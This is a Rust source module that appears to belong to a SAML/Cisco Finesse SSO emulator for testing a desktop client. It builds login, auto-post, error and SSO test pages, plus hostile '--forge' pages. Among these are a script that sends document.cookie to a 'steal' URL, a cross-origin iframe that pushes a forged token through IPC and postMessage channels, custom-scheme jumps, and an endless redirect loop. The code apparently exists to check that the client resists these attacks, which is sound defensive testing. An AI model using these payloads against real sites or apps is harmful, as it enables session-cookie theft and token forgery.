//! The HTML the three servers answer: auto-posting forms, the IdP login page, error pages,
//! the SSO test page and the hostile pages of `--forge`.

/// Escapes text for HTML element content and double-quoted attributes.
pub(crate) fn escape(s: &str) -> String {
    let mut o = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => o.push_str("&amp;"),
            '<' => o.push_str("&lt;"),
            '>' => o.push_str("&gt;"),
            '"' => o.push_str("&quot;"),
            '\'' => o.push_str("&#39;"),
            c => o.push(c),
        }
    }
    o
}

/// A JSON value as a JavaScript literal safe inside `<script>` (no `</script>` breakout).
pub(crate) fn js_literal(v: &serde_json::Value) -> String {
    v.to_string()
        .replace('<', "\\u003c")
        .replace('>', "\\u003e")
        .replace('&', "\\u0026")
}

pub(crate) fn page(title: &str, body: &str) -> String {
    format!(
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
         <meta name=\"viewport\" content=\"width=device-width\">\
         <title>{}</title>\
         <style>body{{font-family:sans-serif;max-width:32em;margin:3em auto}}\
         label{{display:block;margin:.6em 0}}input{{width:100%}}</style>\
         </head><body>\n{body}\n</body></html>\n",
        escape(title)
    )
}

/// A form the page submits by script at once (SAML POST binding, the IdS relay), with a
/// `<noscript>` button for browsers without JavaScript.
pub(crate) fn auto_post(title: &str, action: &str, fields: &[(&str, &str)]) -> String {
    let inputs: String = fields
        .iter()
        .map(|(n, v)| {
            format!(
                "<input type=\"hidden\" name=\"{}\" value=\"{}\">\n",
                escape(n),
                escape(v)
            )
        })
        .collect();
    page(
        title,
        &format!(
            "<p>{}…</p>\n<form id=\"autopost\" method=\"post\" action=\"{}\">\n{inputs}\
             <noscript><p>JavaScript is disabled. Press Continue.</p>\
             <button type=\"submit\">Continue</button></noscript>\n</form>\n\
             <script>document.getElementById('autopost').submit();</script>",
            escape(title),
            escape(action)
        ),
    )
}

/// What the IdP login page shows besides the form.
pub(crate) struct LoginPage<'a> {
    pub txn: &'a str,
    pub users: Vec<&'a str>,
    /// The demo user's name and password, printed on the page.
    pub demo: Option<(&'a str, &'a str)>,
    /// `--auto-login`: the name and password the page fills in and submits itself.
    pub auto: Option<(&'a str, &'a str)>,
    /// `--forge leak`: the origin-relative steal URL the hostile script targets.
    pub leak_action: Option<&'a str>,
    /// `--forge custom-scheme|popup`: hostile markup run before the (delayed) auto-login.
    pub hostile: Option<String>,
}

pub(crate) fn login(p: &LoginPage<'_>) -> String {
    let mut body = String::from("<h1>Emulated SAML IdP — sign in</h1>\n");
    body.push_str(&format!(
        "<p>Sign-in for the Cisco Identity Service of this emulator. Users: {}.</p>\n",
        escape(&p.users.join(", "))
    ));
    if let Some((u, pw)) = p.demo {
        body.push_str(&format!(
            "<p id=\"demo\">Demo credentials: user <code>{}</code>, password <code>{}</code></p>\n",
            escape(u),
            escape(pw)
        ));
    }
    if let Some(action) = p.leak_action {
        // Hostile: read what the page can see and try to send it to another origin.
        body.push_str(&format!(
            "<form id=\"leak\" method=\"get\" action=\"{}\">\
             <input type=\"hidden\" name=\"cc_username\" value=\"unknown\">\
             <input type=\"hidden\" name=\"cookies\" value=\"\"></form>\n\
             <script>(function(){{var f=document.getElementById('leak');\
             var m=document.cookie.match(/(?:^|; )cc_username=([^;]*)/);\
             if(m){{f.elements.cc_username.value=decodeURIComponent(m[1]);}}\
             f.elements.cookies.value=document.cookie;\
             try{{document.getElementById('leak').submit();}}catch(e){{}}}})();</script>\n",
            escape(action)
        ));
    }
    if let Some(h) = &p.hostile {
        body.push_str(h);
    }
    let (user_value, pw_value) = p.auto.unwrap_or(("", ""));
    body.push_str(&format!(
        "<form id=\"login\" method=\"post\" action=\"/idp/login\">\n\
         <input type=\"hidden\" name=\"txn\" value=\"{}\">\n\
         <label>User name <input id=\"username\" name=\"username\" type=\"text\" \
         autocomplete=\"username\" autofocus value=\"{}\"></label>\n\
         <label>Password <input id=\"password\" name=\"password\" type=\"password\" \
         autocomplete=\"current-password\" value=\"{}\"></label>\n\
         <button id=\"signin\" type=\"submit\">Sign in</button>\n</form>\n",
        escape(p.txn),
        escape(user_value),
        escape(pw_value)
    ));
    if let Some((u, _)) = p.auto {
        body.push_str(&format!(
            "<p>Signing in automatically as <code>{}</code>.</p>\n\
             <script>setTimeout(function(){{document.getElementById('login').submit();}}, {});</script>\n",
            escape(u),
            // In leak mode the steal attempt goes first so the client's refusal is observable.
            if p.leak_action.is_some() || p.hostile.is_some() {
                300
            } else {
                0
            }
        ));
    } else {
        body.push_str("<script>document.getElementById('username').focus();</script>\n");
    }
    page("Sign in", &body)
}

/// An error page of the IdP (wrong password, locked, bad request).
pub(crate) fn message(title: &str, text: &str) -> String {
    page(
        title,
        &format!("<h1>{}</h1>\n<p>{}</p>", escape(title), escape(text)),
    )
}

/// `/desktop/sso/test` (reference §1.3): user info and a postMessage to parent/opener.
pub(crate) fn sso_test(user: Option<&str>, expires_in: Option<u64>, error: &str) -> String {
    let ok = user.is_some();
    let msg = serde_json::json!({
        "status": if ok { "true" } else { "false" },
        "errorMessage": error,
    });
    let info = match (user, expires_in) {
        (Some(u), Some(s)) => format!(
            "<p>User: <span id=\"user\">{}</span></p><p>Token valid for {s} s</p>",
            escape(u)
        ),
        (Some(u), None) => format!("<p>User: <span id=\"user\">{}</span></p>", escape(u)),
        _ => format!("<p>SSO test failed: {}</p>", escape(error)),
    };
    page(
        "Finesse SSO test",
        &format!(
            "<h1>Finesse SSO test</h1>\n{info}\n<script>(function(){{var m={};\
             var t=window.opener||(window.parent!==window?window.parent:null);\
             if(t){{t.postMessage(m,'*');}}}})();</script>",
            js_literal(&msg)
        ),
    )
}

/// `--forge iframe`: what the Finesse token URL answers instead of JSON.
pub(crate) fn iframe_host(frame_url: &str) -> String {
    page(
        "Finesse",
        &format!(
            "<p>Loading…</p>\n<iframe id=\"forge\" src=\"{}\" width=\"10\" height=\"10\"></iframe>",
            escape(frame_url)
        ),
    )
}

/// `--forge iframe`: the cross-origin frame that tries every message channel with a forged token.
pub(crate) fn iframe_attack(forged: &serde_json::Value) -> String {
    let lit = js_literal(forged);
    page(
        "frame",
        &format!(
            "<script>(function(){{var f={lit};var s=JSON.stringify(f);\
             try{{window.webkit.messageHandlers.ipc.postMessage(s);}}catch(e){{}}\
             try{{window.ipc.postMessage(s);}}catch(e){{}}\
             try{{window.top.ipc.postMessage(s);}}catch(e){{}}\
             try{{parent.postMessage(s,'*');}}catch(e){{}}\
             try{{parent.postMessage(f,'*');}}catch(e){{}}}})();</script>\
             <pre>FORGED frame</pre>"
        ),
    )
}

/// `--forge custom-scheme`: a frame and a top-level jump to an app's custom scheme. The jump
/// waits for the page's load, as it must in WebKit (Safari too): a location change while the
/// page is still loading stops that load, so a page doing it never works there.
pub(crate) fn custom_scheme_attempt() -> String {
    "<iframe id=\"probe\" src=\"ciscosso://probe?frame=1\" width=\"1\" height=\"1\"></iframe>\n\
     <script>setTimeout(function(){try{window.location.href='ciscosso://launch?app=1';}\
     catch(e){}},0);</script>\n"
        .to_string()
}

/// `--forge redirect-loop`: one step of the endless chain, navigating by script to `next`.
pub(crate) fn loop_step(next: &str) -> String {
    let lit = js_literal(&serde_json::Value::from(next));
    page(
        "Loading",
        &format!("<p>Loading…</p><script>window.location.replace({lit});</script>"),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escaping_blocks_markup_and_script_breakout() {
        assert_eq!(escape("a&<\"'>"), "a&amp;&lt;&quot;&#39;&gt;");
        let v = serde_json::json!({"x": "</script><b>"});
        assert!(!js_literal(&v).contains("</script>"));
    }

    #[test]
    fn login_page_has_the_documented_inputs() {
        let html = login(&LoginPage {
            txn: "t1",
            users: vec!["agent1"],
            demo: Some(("agent1", "demo-password")),
            auto: None,
            leak_action: None,
            hostile: None,
        });
        for needle in [
            "id=\"username\" name=\"username\"",
            "autofocus",
            "id=\"password\" name=\"password\" type=\"password\"",
            "id=\"signin\"",
            "demo-password",
        ] {
            assert!(html.contains(needle), "{needle}");
        }
    }
}
